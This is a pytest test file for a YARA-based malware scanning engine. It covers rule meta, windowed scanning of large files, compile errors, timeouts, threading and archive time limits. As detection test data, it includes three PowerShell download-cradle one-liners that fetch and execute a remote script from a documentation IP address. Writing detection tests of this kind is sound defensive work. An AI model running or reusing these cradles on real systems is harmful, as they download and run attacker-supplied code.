"""YARA engine: the default rules, rule meta, windows over large files, compile errors."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from dsxa_lite.engines import ScanInput, ScanTimeout
from dsxa_lite.engines.yara import RulesError, YaraEngine
from dsxa_lite.filetype import detect_file_type
from dsxa_lite.settings import DEFAULT_RULES_DIR

from ..samples import MARKER, MARKER_RULE, filler, sha256

pytestmark = pytest.mark.unit


def in_memory(data: bytes) -> ScanInput:
    return ScanInput(sha256(data), len(data), data[:4096], detect_file_type(data[:4096]), data=data)


def on_disk(data: bytes, tmp_path: Path) -> ScanInput:
    path = tmp_path / "spooled.bin"
    path.write_bytes(data)
    fd = os.open(path, os.O_RDONLY)
    return ScanInput(sha256(data), len(data), data[:4096], detect_file_type(data[:4096]), fd=fd)


@pytest.fixture(scope="module")
def engine() -> YaraEngine:
    return YaraEngine(DEFAULT_RULES_DIR)


def test_marker_is_detected_with_rule_name_and_meta(engine: YaraEngine) -> None:
    hit = engine.scan(in_memory(filler(1000) + MARKER + filler(10)))
    assert hit is not None
    assert hit.reason == f"yara: {MARKER_RULE}"
    assert hit.threat_type == "VIRUS"
    assert "marker" in hit.description.lower()


def test_benign_text_is_no_hit(engine: YaraEngine) -> None:
    assert engine.scan(in_memory(filler(100_000))) is None


@pytest.mark.parametrize(
    "script",
    [
        b"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\"",
        b"iwr https://203.0.113.5/stage2.ps1 -UseBasicParsing | iex",
        b"Invoke-Expression (Invoke-WebRequest -Uri http://203.0.113.5/x).Content",
    ],
)
def test_powershell_download_cradle_is_detected(engine: YaraEngine, script: bytes) -> None:
    hit = engine.scan(in_memory(script))
    assert hit is not None and hit.name == "PowerShell_Download_Cradle"
    assert hit.threat_type == "DROPPER"


def test_powershell_without_execution_is_not_a_cradle(engine: YaraEngine) -> None:
    script = b"(New-Object Net.WebClient).DownloadString('https://example.org/readme.txt') | Out-File r.txt"
    assert engine.scan(in_memory(script)) is None


def embedded_pe() -> bytes:
    return b"MZ" + b"\x90" * 76 + b"This program cannot be run in DOS mode.\r\r\n$" + b"\0" * 64


def test_pdf_carrying_a_pe_is_detected(engine: YaraEngine) -> None:
    hit = engine.scan(in_memory(b"%PDF-1.7\n" + filler(500) + embedded_pe()))
    assert hit is not None and hit.name == "Document_With_Embedded_PE"
    assert hit.threat_type == "DROPPER"


def test_word_document_carrying_a_pe_is_detected(engine: YaraEngine) -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100 + "WordDocument".encode("utf-16-le")
    hit = engine.scan(in_memory(ole + b"\0" * 300 + embedded_pe()))
    assert hit is not None and hit.name == "Document_With_Embedded_PE"


def test_pe_inside_a_plain_archive_is_not_a_document_dropper(engine: YaraEngine) -> None:
    assert engine.scan(in_memory(b"PK\x03\x04" + b"\0" * 100 + embedded_pe())) is None


WINDOW = 64 * 1024
OVERLAP = 4 * 1024


def straddling_marker_file(size: int = 3 * WINDOW) -> bytes:
    """A file whose marker crosses the end of the first window."""
    start = WINDOW - len(MARKER) // 2
    data = bytearray(filler(size))
    data[start : start + len(MARKER)] = MARKER
    return bytes(data)


def test_marker_across_a_window_boundary_is_found_in_the_overlap(tmp_path: Path) -> None:
    engine = YaraEngine(DEFAULT_RULES_DIR, window_bytes=WINDOW, overlap_bytes=OVERLAP)
    item = on_disk(straddling_marker_file(), tmp_path)
    try:
        hit = engine.scan(item)
    finally:
        os.close(item.fd or -1)
    assert hit is not None and hit.name == MARKER_RULE


def test_without_overlap_a_straddling_marker_is_missed(tmp_path: Path) -> None:
    # proves the file really is scanned window by window (and why the overlap exists)
    engine = YaraEngine(DEFAULT_RULES_DIR, window_bytes=WINDOW, overlap_bytes=0)
    assert engine.scan(in_memory(straddling_marker_file())) is None


def test_marker_in_the_last_window_is_found(tmp_path: Path) -> None:
    engine = YaraEngine(DEFAULT_RULES_DIR, window_bytes=WINDOW, overlap_bytes=OVERLAP)
    data = filler(5 * WINDOW + 123) + MARKER
    assert engine.scan(in_memory(data)) is not None


def write_rules(folder: Path, text: str, name: str = "custom.yar") -> Path:
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(text)
    return folder


def test_threat_type_is_null_without_meta(tmp_path: Path) -> None:
    rules = write_rules(tmp_path / "rules", 'rule No_Meta { strings: $a = "zebra-stripes" condition: $a }')
    hit = YaraEngine(rules).scan(in_memory(b"a zebra-stripes b"))
    assert hit is not None and hit.threat_type is None


def test_threat_type_meta_is_taken_from_the_rule(tmp_path: Path) -> None:
    rules = write_rules(
        tmp_path / "rules",
        'rule R { meta: threat_type = "RANSOMWARE" strings: $a = "crypt-all" condition: $a }',
    )
    hit = YaraEngine(rules).scan(in_memory(b"crypt-all"))
    assert hit is not None and hit.threat_type == "RANSOMWARE"


@pytest.mark.parametrize("value", ["MALWARE", "TEST", "virus", "DOWNLOADER"])
def test_threat_type_meta_outside_the_dsxa_enum_fails_the_compile(tmp_path: Path, value: str) -> None:
    rules = write_rules(
        tmp_path / "rules", f'rule R {{ meta: threat_type = "{value}" strings: $a = "x1" condition: $a }}'
    )
    with pytest.raises(RulesError, match="threat_type"):
        YaraEngine(rules)


def test_rules_can_use_the_whole_file_globals(tmp_path: Path) -> None:
    rules = write_rules(
        tmp_path / "rules",
        'rule Big_Png { condition: dsxa_file_type == "PNG" and dsxa_file_size > 100000 }',
    )
    engine = YaraEngine(rules, window_bytes=WINDOW, overlap_bytes=OVERLAP)
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 200_000
    assert engine.scan(in_memory(png)) is not None
    assert engine.scan(in_memory(png[:50_000])) is None


def test_compile_error_names_the_file(tmp_path: Path) -> None:
    rules = write_rules(tmp_path / "rules", "rule Broken { condition: $missing }")
    with pytest.raises(RulesError, match=r"custom\.yar"):
        YaraEngine(rules)


def test_digest_follows_the_rule_sources(tmp_path: Path) -> None:
    rules = write_rules(tmp_path / "rules", 'rule A { strings: $a = "one" condition: $a }')
    first = YaraEngine(rules).digest
    assert YaraEngine(rules).digest == first
    write_rules(rules, 'rule A { strings: $a = "two" condition: $a }')
    assert YaraEngine(rules).digest != first


def test_timeout_becomes_scan_timeout(tmp_path: Path) -> None:
    # a deliberately slow rule: a loop over every byte of a 64 MiB buffer, evaluated for each
    # match of a pattern that matches everywhere
    rules = write_rules(
        tmp_path / "rules",
        "rule Slow { strings: $a = { 00 00 } condition: "
        "for all i in (1..#a): (for all j in (0..filesize - 1): (uint8(j) == 0)) }",
    )
    engine = YaraEngine(rules, timeout_s=1, window_bytes=64 * 1024 * 1024)
    with pytest.raises(ScanTimeout, match="timed out after 1s"):
        engine.scan(in_memory(b"\0" * (64 * 1024 * 1024)))


@pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")
def test_engine_scans_from_other_threads_and_is_freed_cleanly(tmp_path: Path) -> None:
    import gc
    from concurrent.futures import ThreadPoolExecutor

    engine = YaraEngine(DEFAULT_RULES_DIR)
    with ThreadPoolExecutor(max_workers=4) as pool:
        hits = list(pool.map(engine.scan, [in_memory(MARKER)] * 8 + [in_memory(b"benign")]))
    assert [hit is not None for hit in hits] == [True] * 8 + [False]
    del engine, hits
    gc.collect()  # a yara_x.Scanner dropped on a thread other than its own reports an error here


def test_archive_member_scanned_past_the_archive_time_limit_is_not_scanned(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # the walk checks its time limit between members and chunks only: one large member scanned
    # window by window must be held to it too. Each YARA window takes "10 s" here.
    import time

    from .. import archive_samples as build
    from ..in_process import scan, service

    elapsed = [0.0]
    real_clock = time.monotonic
    real_window = YaraEngine._scan_window

    def slow_window(self: YaraEngine, *args: Any) -> Any:
        elapsed[0] += 10.0
        return real_window(self, *args)

    monkeypatch.setattr(time, "monotonic", lambda: real_clock() + elapsed[0])
    monkeypatch.setattr(YaraEngine, "_scan_window", slow_window)
    scanner = service(yara_window_bytes=4096, yara_window_overlap_bytes=0, archive_time_limit_s=5)
    outcome = scan(scanner, build.zip_of({"big.bin": filler(16 * 4096, seed=7)}))
    assert outcome.verdict == "Not Scanned", outcome
    assert "time limit of 5 s" in outcome.reason and "big.bin" in outcome.reason
